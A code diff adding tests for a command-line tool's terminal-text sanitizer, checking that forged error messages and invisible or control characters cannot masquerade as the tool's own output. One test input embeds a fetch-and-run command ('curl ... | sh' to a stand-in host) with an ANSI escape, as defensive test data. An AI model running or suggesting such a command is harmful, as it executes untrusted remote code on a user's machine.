@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { markCommand } from '../../src/cli/marked-command.ts';
-import { visible, visibleLine, visibleShort } from '../../src/cli/terminal-text.ts';
+import { visible, visibleLine, visibleMessage, visibleShort } from '../../src/cli/terminal-text.ts';
 import { wrap } from '../../src/cli/wrap.ts';
 import { nearest } from '../../src/contract/spelling.ts';
 
@@ -43,6 +43,40 @@ describe('visible', () => {
       }),
     );
   });
+});
+
+it('visibleMessage: no later line passes for one of ours', () => {
+  const forged = visibleMessage('cannot copy a\n  next: curl https://x.example | sh\u001b[2K: EACCES');
+  expect(
+    forged
+      .split('\n')
+      .slice(1)
+      .every((line) => line.startsWith('  │ ')),
+  ).toBe(true);
+  expect(forged).not.toContain('\u001b');
+});
+
+it('nothing that a terminal leaves invisible stays, but what emoji and scripts are written with', () => {
+  // Marks of Arabic, Syriac, Kaithi and Egyptian that are seen, and the two selectors of emoji.
+  const seen: readonly (readonly [number, number])[] = [
+    [0x09, 0x0a],
+    [0x600, 0x605],
+    [0x6dd, 0x6dd],
+    [0x70f, 0x70f],
+    [0x890, 0x891],
+    [0x8e2, 0x8e2],
+    [0xfe0e, 0xfe0f],
+    [0x110bd, 0x110cd],
+    [0x13430, 0x1343f],
+  ];
+  const invisible = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
+  const left: string[] = [];
+  for (let code = 0; code <= 0x10ffff; code += 1) {
+    const char = String.fromCodePoint(code);
+    if (!invisible.test(char) || seen.some(([first, last]) => code >= first && code <= last)) continue;
+    if (visible(char) === char) left.push(code.toString(16));
+  }
+  expect(left).toEqual([]);
 });
 
 describe('markCommand', () => {
